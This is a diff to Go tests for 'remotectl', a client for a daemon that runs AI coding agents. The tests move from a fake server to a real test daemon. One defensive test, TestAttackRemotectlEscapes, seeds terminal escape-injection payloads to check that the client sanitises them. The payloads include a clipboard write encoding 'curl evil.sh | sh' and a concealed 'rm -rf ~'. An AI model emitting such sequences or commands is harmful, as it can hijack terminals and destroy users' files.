@@ -13,7 +13,8 @@ import (
 
 	"remote/api"
 	"remote/client"
-	"remote/client/clienttest"
+	"remote/daemon/daemontest"
+	"remote/providers"
 )
 
 // syncBuffer is a bytes.Buffer safe for a writer and a concurrent reader.
@@ -39,24 +40,43 @@ type result struct {
 	stdout, stderr string
 }
 
-func runCtl(ctx context.Context, fake *clienttest.Server, stdin string, args ...string) result {
+// runCtl runs remotectl against the daemon's socket.
+func runCtl(ctx context.Context, d *daemontest.Daemon, stdin string, args ...string) result {
 	var out, errb syncBuffer
-	code := run(ctx, append([]string{"-socket", fake.Socket}, args...), strings.NewReader(stdin), &out, &errb)
+	code := run(ctx, append([]string{"-socket", d.Socket}, args...), strings.NewReader(stdin), &out, &errb)
 	return result{code, out.String(), errb.String()}
 }
 
-func seeded(t *testing.T) *clienttest.Server {
-	fake := clienttest.New(t)
-	user := client.New("").User()
-	fake.AddChat(api.Chat{ID: "abcdef012345", Title: "first chat", Owner: user, Provider: "claude", Sessions: map[string]string{"claude": "sess-1"}},
-		api.Event{Type: api.EventUser, Text: "hello"},
-		api.Event{Type: api.EventAssistantText, MessageID: "m1", Text: "hi there"},
-		api.Event{Type: api.EventComplete})
-	return fake
+// newDaemon starts the real daemon (daemontest) with chats stored for the
+// user remotectl acts as (the local user).
+func newDaemon(t *testing.T, o daemontest.Options, chats ...daemontest.Chat) *daemontest.Daemon {
+	t.Helper()
+	o.Chats = append(o.Chats, chats...)
+	return daemontest.New(t, o)
 }
 
+// firstChat is the chat seeded reuses: three stored events and a Claude
+// session.
+func firstChat() daemontest.Chat {
+	return daemontest.Chat{
+		Chat: api.Chat{ID: "abcdef012345", Title: "first chat", Owner: client.New("").User(), Provider: "claude", Cwd: os.TempDir(), Sessions: map[string]string{"claude": "sess-1"}},
+		Events: []api.Event{
+			{Type: api.EventUser, Text: "hello"},
+			{Type: api.EventAssistantText, MessageID: "m1", Text: "hi there"},
+			{Type: api.EventComplete},
+		},
+	}
+}
+
+func seeded(t *testing.T) *daemontest.Daemon { return newDaemon(t, daemontest.Options{}, firstChat()) }
+
 func TestCommands(t *testing.T) {
-	fake := seeded(t)
+	// With LXD, so info shows its real reachability and version.
+	fake := newDaemon(t, daemontest.Options{LXD: true}, firstChat())
+	srv, err := fake.LXD.Server(context.Background())
+	if err != nil {
+		t.Fatal(err)
+	}
 	tests := []struct {
 		name       string
 		args       []string
@@ -65,17 +85,17 @@ func TestCommands(t *testing.T) {
 		stderr     []string
 		jsonStdout bool
 	}{
-		{"info", []string{"info"}, 0, []string{"version:", "fake", "reachable, server 5.0.2", "claude, codex"}, nil, false},
-		{"info json", []string{"info", "--json"}, 0, []string{`"version": "fake"`}, nil, true},
-		{"info global json", []string{"--json", "info"}, 0, []string{`"uptimeSeconds": 42`}, nil, true},
-		{"providers", []string{"providers"}, 0, []string{"MODELS", "FEATURES", "claude", "Claude Code", "fork,resume"}, nil, false},
+		{"info", []string{"info"}, 0, []string{"version:", "test", "reachable, server " + srv.ServerVersion, "claude, codex"}, nil, false},
+		{"info json", []string{"info", "--json"}, 0, []string{`"version": "test"`}, nil, true},
+		{"info global json", []string{"--json", "info"}, 0, []string{`"uptimeSeconds": `, `"reachable": true`}, nil, true},
+		{"providers", []string{"providers"}, 0, []string{"MODELS", "FEATURES", "claude", "Claude Code", "fork,planMode,resume"}, nil, false},
 		{"providers json", []string{"providers", "-json"}, 0, []string{`"id": "codex"`}, nil, true},
 		{"chat list", []string{"chat", "list"}, 0, []string{"abcdef012345", "first chat"}, nil, false},
 		{"chat list json", []string{"chat", "list", "--json"}, 0, []string{`"id": "abcdef012345"`}, nil, true},
 		{"chat show", []string{"chat", "show", "abcdef012345"}, 0, []string{"sessions:", "claude=sess-1", "provider:"}, nil, false},
 		{"chat show json after id", []string{"chat", "show", "abcdef012345", "--json"}, 0, []string{`"sessions": {`}, nil, true},
-		{"chat show missing", []string{"chat", "show", "abcd"}, 1, nil, []string{`remotectl: not_found: chat "abcd" not found`}, false},
-		{"chat show bad id", []string{"chat", "show", "NOPE"}, 1, nil, []string{`remotectl: bad_request: invalid chat id "NOPE"`}, false},
+		{"chat show missing", []string{"chat", "show", "abcd"}, 1, nil, []string{"remotectl: not_found: chat abcd: not found\n"}, false},
+		{"chat show bad id", []string{"chat", "show", "NOPE"}, 1, nil, []string{`remotectl: bad_request: id: invalid chat id "NOPE" (want 4-32 lowercase hex characters)`}, false},
 		{"chat show no id", []string{"chat", "show"}, 2, nil, []string{"remotectl chat: show: want 1 argument(s) (CHAT), got 0\nusage: remotectl chat show CHAT [--json]\n"}, false},
 		{"chat unknown sub", []string{"chat", "frob"}, 2, nil, []string{`unknown subcommand "frob"`}, false},
 		{"chat no sub", []string{"chat"}, 2, nil, []string{"create, fork, list, rm, show"}, false},
@@ -90,7 +110,7 @@ func TestCommands(t *testing.T) {
 		{"tail help", []string{"tail", "--help"}, 0, []string{"usage: remotectl tail CHAT", "-since seq"}, nil, false},
 		{"cancel idle", []string{"cancel", "abcdef012345"}, 1, nil, []string{"remotectl: not_found: no prompt is currently running"}, false},
 		{"prompt no text", []string{"prompt", "abcdef012345"}, 2, nil, []string{"want CHAT and TEXT"}, false},
-		{"prompt missing chat", []string{"prompt", "abcd", "hi"}, 1, nil, []string{`not_found: chat "abcd" not found`}, false},
+		{"prompt missing chat", []string{"prompt", "abcd", "hi"}, 1, nil, []string{"remotectl: not_found: chat abcd: not found\n"}, false},
 	}
 	for _, tt := range tests {
 		t.Run(tt.name, func(t *testing.T) {
@@ -118,7 +138,7 @@ func TestCommands(t *testing.T) {
 // TestChatCreateApproval: -approval and -effort reach the daemon in the
 // create request and chat show prints them.
 func TestChatCreateApproval(t *testing.T) {
-	fake := clienttest.New(t)
+	fake := newDaemon(t, daemontest.Options{})
 	ctx := context.Background()
 	r := runCtl(ctx, fake, "", "chat", "create", "-provider", "codex", "-approval", "untrusted", "-effort", "high", "-cwd", "/tmp", "--json")
 	var c api.Chat
@@ -137,15 +157,40 @@ func TestChatCreateApproval(t *testing.T) {
 }
 
 // TestAnswer: `remotectl answer` sends {"decision": D} for the named
-// interaction; a bad decision is a usage error and an unknown interaction
-// the daemon's 404.
+// interaction and the run gets it; a bad decision is a usage error, and
+// an answer while nothing runs (before the request, after the run has
+// resolved it) the daemon's 404.
 func TestAnswer(t *testing.T) {
-	fake := clienttest.New(t)
 	user := client.New("").User()
-	fake.AddChat(api.Chat{ID: "abc123abc123", Owner: user, Provider: "codex"},
-		api.Event{Type: api.EventUser, Text: "run it"},
-		api.Event{Type: api.EventInteractionRequest, ID: "0", InteractionID: "0", Name: "item/commandExecution/requestApproval"})
+	fake := newDaemon(t, daemontest.Options{}, daemontest.Chat{Chat: api.Chat{ID: "abc123abc123", Owner: user, Provider: "codex", Cwd: os.TempDir()}})
+	// The run asks for approval "0", waits for the answer, reports it
+	// resolved and completes.
+	fake.Codex.SetRun(func(ctx context.Context, req providers.RunRequest, emit func(providers.Event)) error {
+		emit(providers.Event{Type: providers.EventInteractionRequest, InteractionID: "0", ToolName: "item/commandExecution/requestApproval"})
+		if _, ok := fake.Codex.AwaitAnswer(ctx, req); !ok {
+			return ctx.Err()
+		}
+		emit(providers.Event{Type: providers.EventInteractionResolved, InteractionID: "0", Status: "approved"})
+		emit(providers.Event{Type: providers.EventRunCompleted})
+		return nil
+	})
 	ctx := context.Background()
+	answer := func(t *testing.T, args []string, code int, stderr string) {
+		t.Helper()
+		r := runCtl(ctx, fake, "", args...)
+		if r.code != code || !strings.Contains(r.stderr, stderr) {
+			t.Fatalf("exit %d stderr %q, want %d and %q", r.code, r.stderr, code, stderr)
+		}
+	}
+	answer(t, []string{"answer", "abc123abc123", "7", "accept"}, 1, "remotectl: not_found: no prompt is currently running\n")
+	c := fake.Client(user)
+	if _, err := c.Prompt(ctx, "abc123abc123", api.PromptRequest{Text: "run it"}); err != nil {
+		t.Fatal(err)
+	}
+	waitFor(t, "the interaction request", func() bool {
+		evs, _ := c.Events(ctx, "abc123abc123", 0)
+		return len(evs) > 0 && evs[len(evs)-1].Type == api.EventInteractionRequest
+	})
 	for _, tt := range []struct {
 		name   string
 		args   []string
@@ -154,32 +199,49 @@ func TestAnswer(t *testing.T) {
 	}{
 		{"bad decision", []string{"answer", "abc123abc123", "0", "yes"}, 2, `unknown decision "yes" (want accept, decline, cancel)`},
 		{"missing decision", []string{"answer", "abc123abc123", "0"}, 2, "want 3 argument(s) (CHAT INTERACTION DECISION), got 2"},
-		{"unknown interaction", []string{"answer", "abc123abc123", "7", "accept"}, 1, `remotectl: not_found: no pending interaction "7"`},
 		{"accept", []string{"answer", "abc123abc123", "0", "accept"}, 0, ""},
-		{"already answered", []string{"answer", "abc123abc123", "0", "decline"}, 1, `not_found`},
 	} {
-		t.Run(tt.name, func(t *testing.T) {
-			r := runCtl(ctx, fake, "", tt.args...)
-			if r.code != tt.code || !strings.Contains(r.stderr, tt.stderr) {
-				t.Fatalf("exit %d stderr %q, want %d and %q", r.code, r.stderr, tt.code, tt.stderr)
-			}
-		})
+		t.Run(tt.name, func(t *testing.T) { answer(t, tt.args, tt.code, tt.stderr) })
 	}
+	waitFor(t, "the run to end", func() bool {
+		ch, err := c.Chat(ctx, "abc123abc123")
+		return err == nil && !ch.Running
+	})
+	answer(t, []string{"answer", "abc123abc123", "0", "decline"}, 1, "not_found")
+
 	r := runCtl(ctx, fake, "", "events", "abc123abc123", "--json")
 	var evs []api.Event
 	if err := json.Unmarshal([]byte(r.stdout), &evs); err != nil {
 		t.Fatalf("events: %v %+v", err, r)
 	}
-	last := evs[len(evs)-1]
+	resolved := evs[len(evs)-2]
+	if resolved.Type != api.EventInteractionResolved || resolved.Status != "approved" {
+		t.Errorf("the events end with %+v", evs[len(evs)-2:])
+	}
+	got := fake.Codex.Answers()
 	var sent bytes.Buffer
-	_ = json.Compact(&sent, last.Data)
-	if last.Type != api.EventInteractionResolved || last.Status != "approved" || sent.String() != `{"decision":"accept"}` {
-		t.Errorf("the daemon got %+v", last)
+	if len(got) == 1 {
+		_ = json.Compact(&sent, got[0].Result)
+	}
+	if len(got) != 1 || got[0].ID != "0" || sent.String() != `{"decision":"accept"}` {
+		t.Errorf("the run got %+v", got)
+	}
+}
+
+// waitFor polls cond until it holds, failing the test after a minute.
+func waitFor(t *testing.T, what string, cond func() bool) {
+	t.Helper()
+	deadline := time.Now().Add(time.Minute)
+	for !cond() {
+		if time.Now().After(deadline) {
+			t.Fatalf("timed out waiting for %s", what)
+		}
+		time.Sleep(10 * time.Millisecond)
 	}
 }
 
 func TestChatLifecycle(t *testing.T) {
-	fake := clienttest.New(t)
+	fake := newDaemon(t, daemontest.Options{})
 	ctx := context.Background()
 	r := runCtl(ctx, fake, "", "chat", "create", "-provider", "codex", "-title", "t1", "-cwd", "/tmp")
 	id := strings.TrimSpace(r.stdout)
@@ -201,16 +263,16 @@ func TestChatLifecycle(t *testing.T) {
 
 func TestPromptStreamsUntilComplete(t *testing.T) {
 	fake := seeded(t)
-	fake.Script = func(req api.PromptRequest) []api.Event {
-		return []api.Event{
-			{Type: api.EventThinking, MessageID: "t1", Text: "pondering"},
-			{Type: api.EventToolUseStart, ID: "tool1", Name: "Bash", Input: json.RawMessage(`{"command":"ls -la"}`)},
-			{Type: api.EventToolUseEnd, ID: "tool1", Output: "a\nb\n"},
-			{Type: api.EventAssistantText, MessageID: "m2", Text: "Hello, "},
-			{Type: api.EventAssistantText, MessageID: "m2", Text: req.Text},
-			{Type: api.EventComplete},
+	fake.Claude.SetScript(func(req providers.RunRequest) []providers.Event {
+		return []providers.Event{
+			{Type: providers.EventReasoningDelta, MessageID: "t1", Text: "pondering"},
+			{Type: providers.EventToolStarted, ItemID: "tool1", ToolName: "Bash", Input: json.RawMessage(`{"command":"ls -la"}`)},
+			{Type: providers.EventToolCompleted, ItemID: "tool1", Output: "a\nb\n"},
+			{Type: providers.EventAssistantDelta, MessageID: "m2", Text: "Hello, "},
+			{Type: providers.EventAssistantDelta, MessageID: "m2", Text: req.Prompt},
+			{Type: providers.EventRunCompleted},
 		}
-	}
+	})
 	r := runCtl(context.Background(), fake, "", "prompt", "abcdef012345", "big", "world")
 	if r.code != 0 {
 		t.Fatalf("exit %d: %s", r.code, r.stderr)
@@ -230,9 +292,10 @@ func TestPromptStreamsUntilComplete(t *testing.T) {
 
 func TestPromptFromStdinAndFailure(t *testing.T) {
 	fake := seeded(t)
-	fake.Script = func(req api.PromptRequest) []api.Event {
-		return []api.Event{{Type: api.EventError, Message: "claude exit: " + req.Text}}
-	}
+	fake.Claude.SetRun(func(_ context.Context, req providers.RunRequest, emit func(providers.Event)) error {
+		emit(providers.Event{Type: providers.EventRunFailed, Message: "claude exit: " + req.Prompt})
+		return providers.ErrRunFailed
+	})
 	r := runCtl(context.Background(), fake, "boom\n", "prompt", "abcdef012345", "-")
 	if r.code != 1 || !strings.Contains(r.stderr, "remotectl: run failed: claude exit: boom") {
 		t.Fatalf("%+v", r)
@@ -241,10 +304,10 @@ func TestPromptFromStdinAndFailure(t *testing.T) {
 
 func TestPromptInterruptCancelsRun(t *testing.T) {
 	fake := seeded(t)
-	fake.HoldRuns = true
-	fake.Script = func(api.PromptRequest) []api.Event {
-		return []api.Event{{Type: api.EventAssistantText, MessageID: "m", Text: "working"}}
-	}
+	fake.Claude.SetHold(true)
+	fake.Claude.SetScript(func(providers.RunRequest) []providers.Event {
+		return []providers.Event{{Type: providers.EventAssistantDelta, MessageID: "m", Text: "working"}}
+	})
 	ctx, cancel := context.WithCancel(context.Background())
 	var out, errb syncBuffer
 	done := make(chan int, 1)
@@ -265,13 +328,7 @@ func TestPromptInterruptCancelsRun(t *testing.T) {
 	if code != exitInterrupted || !strings.Contains(errb.String(), "interrupted: run cancelled") {
 		t.Fatalf("exit %d, stderr %q", code, errb.String())
 	}
-	var cancels int
-	for _, req := range fake.Requests() {
-		if req.Method == "POST" && strings.HasSuffix(req.Path, "/cancel") {
-			cancels++
-		}
-	}
-	if cancels != 1 {
+	if cancels := fake.AuditCount("POST /v1/chats/{id}/cancel"); cancels != 1 {
 		t.Fatalf("%d cancel requests, want 1", cancels)
 	}
 }
@@ -379,17 +436,17 @@ func waitABit() { time.Sleep(2 * time.Millisecond) }
 // carriage return that overwrites a line, escapes in a tool call and an
 // error) reaches the terminal as plain text; --raw passes it through.
 func TestAttackRemotectlEscapes(t *testing.T) {
-	fake := clienttest.New(t)
 	user := client.New("").User()
-	fake.AddChat(api.Chat{ID: "abcdef012345", Title: "evil\x1b]0;owned\x07 title", Owner: user, Provider: "claude"},
-		api.Event{Type: api.EventUser, Text: "\x1b[1mhello"},
-		api.Event{Type: api.EventAssistantText, MessageID: "m1", Text: "copy\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07 this\n"},
-		api.Event{Type: api.EventAssistantText, MessageID: "m2", Text: "\x1b]0;pwned title\x1b\\safe \x1b[8mhidden\x1b[0m done\n"},
-		api.Event{Type: api.EventAssistantText, MessageID: "m3", Text: "\u009b31mred\u009b0m\tand\r fake prompt $ \x07\x00\x7f\u0085end\n"},
-		api.Event{Type: api.EventThinking, Text: "think\x1bP+q544e\x1b\\ing\x1b(0\n"},
-		api.Event{Type: api.EventToolUseStart, ID: "t1", Name: "Bash\x1b]2;x\x07", Input: json.RawMessage(`{"command":"ls \u001b[8m; rm -rf ~\u001b[0m"}`)},
-		api.Event{Type: api.EventError, Message: "bad\x1b[41m thing"},
-		api.Event{Type: api.EventComplete})
+	fake := newDaemon(t, daemontest.Options{}, daemontest.Chat{Chat: api.Chat{ID: "abcdef012345", Title: "evil\x1b]0;owned\x07 title", Owner: user, Provider: "claude", Cwd: os.TempDir()}, Events: []api.Event{
+		{Type: api.EventUser, Text: "\x1b[1mhello"},
+		{Type: api.EventAssistantText, MessageID: "m1", Text: "copy\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07 this\n"},
+		{Type: api.EventAssistantText, MessageID: "m2", Text: "\x1b]0;pwned title\x1b\\safe \x1b[8mhidden\x1b[0m done\n"},
+		{Type: api.EventAssistantText, MessageID: "m3", Text: "\u009b31mred\u009b0m\tand\r fake prompt $ \x07\x00\x7f\u0085end\n"},
+		{Type: api.EventThinking, Text: "think\x1bP+q544e\x1b\\ing\x1b(0\n"},
+		{Type: api.EventToolUseStart, ID: "t1", Name: "Bash\x1b]2;x\x07", Input: json.RawMessage(`{"command":"ls \u001b[8m; rm -rf ~\u001b[0m"}`)},
+		{Type: api.EventError, Message: "bad\x1b[41m thing"},
+		{Type: api.EventComplete},
+	}})
 
 	got := runCtl(context.Background(), fake, "", "events", "abcdef012345")
 	if got.code != 0 {
